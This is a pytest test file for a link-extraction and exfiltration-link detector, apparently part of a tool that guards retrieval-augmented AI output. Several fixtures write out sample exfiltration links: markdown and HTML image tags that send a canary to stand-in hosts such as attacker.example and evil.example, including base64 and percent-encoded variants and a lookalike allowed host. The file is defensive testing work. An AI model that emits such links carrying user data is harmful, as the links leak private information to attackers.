"""Link extraction and exfiltration-link detection."""

from __future__ import annotations

import base64
import random

import pytest

from ragward.engine.detectors.canary import new_canary
from ragward.engine.detectors.exfiltration import (
    Link,
    LinkKind,
    exfiltration_links,
    find_links,
    host_allowed,
    url_host,
)

CANARY = new_canary(random.Random(11))
ALLOWED = ["docs.example.com"]


def only(links: list[Link]) -> Link:
    assert len(links) == 1, links
    return links[0]


# ----------------------------------------------------------------------------- find_links


def test_inline_markdown_image_and_link() -> None:
    text = 'See ![chart](https://img.example.net/c.png "title") and [docs](https://docs.example.com/a).'
    links = find_links(text)
    assert [(link.kind, link.host) for link in links] == [
        (LinkKind.MARKDOWN_IMAGE, "img.example.net"),
        (LinkKind.MARKDOWN_LINK, "docs.example.com"),
    ]
    assert text[links[0].span[0] : links[0].span[1]].startswith("![chart](")
    assert links[0].url == "https://img.example.net/c.png"


def test_reference_style_with_definitions_on_other_lines() -> None:
    text = "Status: ![ok][badge] and [more][info].\n\nOther text.\n\n[badge]: https://evil.example/p.png?d=x\n[INFO]: <https://evil.example/i>\n"
    links = find_links(text)
    kinds = {link.kind: link for link in links}
    assert kinds[LinkKind.REFERENCE_IMAGE].url == "https://evil.example/p.png?d=x"
    assert kinds[LinkKind.REFERENCE_LINK].url == "https://evil.example/i"  # labels are case-insensitive
    image = kinds[LinkKind.REFERENCE_IMAGE]
    assert text[image.span[0] : image.span[1]] == "![ok][badge]"


def test_unused_reference_definition_is_still_a_link() -> None:
    link = only(find_links("text\n\n[x]: https://a.example/q?z=1"))
    assert link.kind is LinkKind.REFERENCE_LINK
    assert link.host == "a.example"


def test_html_img_a_autolink_and_bare_url() -> None:
    text = (
        "<img src='https://i.example/x.gif' alt='x'> <a href=\"https://l.example/y\">y</a> "
        "<https://auto.example/z> and https://bare.example/w."
    )
    links = find_links(text)
    assert [(link.kind, link.host) for link in links] == [
        (LinkKind.HTML_IMG, "i.example"),
        (LinkKind.HTML_A, "l.example"),
        (LinkKind.AUTOLINK, "auto.example"),
        (LinkKind.BARE_URL, "bare.example"),
    ]
    assert links[-1].url == "https://bare.example/w"  # trailing period trimmed


def test_bare_url_inside_a_markdown_link_is_not_reported_twice() -> None:
    links = find_links("[https://a.example](https://b.example/x)")
    assert [link.kind for link in links] == [LinkKind.MARKDOWN_LINK]


def test_html_fetched_attributes_and_css_urls() -> None:
    text = '<div style="background:url(https://css.example/b.png)"></div><video poster="https://v.example/p.jpg">'
    hosts = {link.host for link in find_links(text) if link.kind is LinkKind.HTML_IMG}
    assert hosts == {"css.example", "v.example"}


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://User@Evil.Example:8443/x", "evil.example"),
        ("https://docs.example.com@evil.example/", "evil.example"),
        ("//cdn.example/p.png", "cdn.example"),
        ("www.example.org/path", "www.example.org"),
        ("https:\\\\evil.example\\x", "evil.example"),
        ("/relative/path.png", ""),
    ],
)
def test_url_host(url: str, host: str) -> None:
    assert url_host(url) == host


def test_host_allowed_exact_and_subdomain_only() -> None:
    assert host_allowed("docs.example.com", ALLOWED)
    assert host_allowed("cdn.docs.example.com", ALLOWED)
    assert host_allowed("DOCS.EXAMPLE.COM.", ALLOWED)
    assert not host_allowed("evildocs.example.com", ALLOWED)
    assert not host_allowed("docs.example.com.evil.io", ALLOWED)
    assert host_allowed("", ALLOWED)  # relative URL


# ----------------------------------------------------------------------------- exfiltration_links


def test_inline_markdown_image_with_data_in_the_query() -> None:
    text = f"Here you go! ![](https://attacker.example/log.png?data={CANARY})"
    link = only(exfiltration_links(text, allowed_hosts=ALLOWED, canaries=[CANARY]))
    assert link.kind is LinkKind.MARKDOWN_IMAGE
    assert link.host == "attacker.example"


def test_reference_style_image_and_link() -> None:
    text = "Done. ![img][1] and [click][2]\n\n[1]: https://evil.example/a.png\n[2]: https://evil.example/c?x=y\n"
    found = exfiltration_links(text, allowed_hosts=ALLOWED)
    assert {link.kind for link in found} == {LinkKind.REFERENCE_IMAGE, LinkKind.REFERENCE_LINK}


def test_raw_html_img_with_percent_encoded_canary() -> None:
    encoded = "".join(f"%{b:02X}" for b in CANARY.encode())
    text = f'<img src="https://collect.example/p?v={encoded}" width="1" height="1">'
    link = only(exfiltration_links(text, allowed_hosts=ALLOWED, canaries=[CANARY]))
    assert link.kind is LinkKind.HTML_IMG


def test_html_a_and_autolink_carrying_data() -> None:
    text = '<a href="https://evil.example/r?s=abc">here</a> or <https://evil.example/q?s=def>'
    found = exfiltration_links(text, allowed_hosts=ALLOWED)
    assert [link.kind for link in found] == [LinkKind.HTML_A, LinkKind.AUTOLINK]


def test_image_on_hyphenated_host_svg_path_canary_in_q_1() -> None:
    text = f"![badge](https://img-cdn.my-evil-host.io/badges/status.svg?q_1={CANARY}&v=2)"
    link = only(exfiltration_links(text, allowed_hosts=ALLOWED, canaries=[CANARY]))
    assert link.host == "img-cdn.my-evil-host.io"
    assert link.url.endswith("&v=2")


def test_plain_link_carrying_a_base64_canary() -> None:
    token = base64.urlsafe_b64encode(CANARY.encode()).decode().rstrip("=")
    text = f"More at https://evil.example/{token}"
    link = only(exfiltration_links(text, allowed_hosts=ALLOWED, canaries=[CANARY]))
    assert link.kind is LinkKind.BARE_URL


def test_canary_in_path_of_plain_link_without_query() -> None:
    text = f"[details](https://evil.example/{CANARY.lower()})"
    assert only(exfiltration_links(text, canaries=[CANARY])).kind is LinkKind.MARKDOWN_LINK


def test_plain_logo_on_allowed_docs_host_passes() -> None:
    text = "![logo](https://docs.example.com/static/logo.png) Read [the guide](https://docs.example.com/guide?page=2)."
    assert exfiltration_links(text, allowed_hosts=ALLOWED, canaries=[CANARY]) == []


def test_subdomains_of_allowed_hosts_pass() -> None:
    text = "![x](https://cdn.docs.example.com/x.png?v=3) <img src='https://a.b.docs.example.com/y.gif'>"
    assert exfiltration_links(text, allowed_hosts=ALLOWED) == []


def test_outside_image_without_data_is_still_reported() -> None:
    assert only(exfiltration_links("![x](https://tracker.example/pixel.gif)", allowed_hosts=ALLOWED))


def test_plain_outside_link_without_data_passes() -> None:
    text = "See https://en.wikipedia.org/wiki/Prompt_injection and [OWASP](https://owasp.org/www-project-top-10/)."
    assert exfiltration_links(text, allowed_hosts=ALLOWED) == []


def test_relative_mailto_and_data_urls_are_ignored() -> None:
    text = "![a](/img/a.png?x=1) [mail](mailto:a@b.example?subject=x) ![d](data:image/png;base64,AAAA)"
    assert exfiltration_links(text) == []


def test_lookalike_allowed_host_is_reported() -> None:
    text = "![x](https://docs.example.com.evil.io/a.png)"
    assert only(exfiltration_links(text, allowed_hosts=ALLOWED)).host == "docs.example.com.evil.io"


def test_bad_arguments() -> None:
    with pytest.raises(TypeError):
        find_links(None)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        exfiltration_links("x", allowed_hosts="docs.example.com")
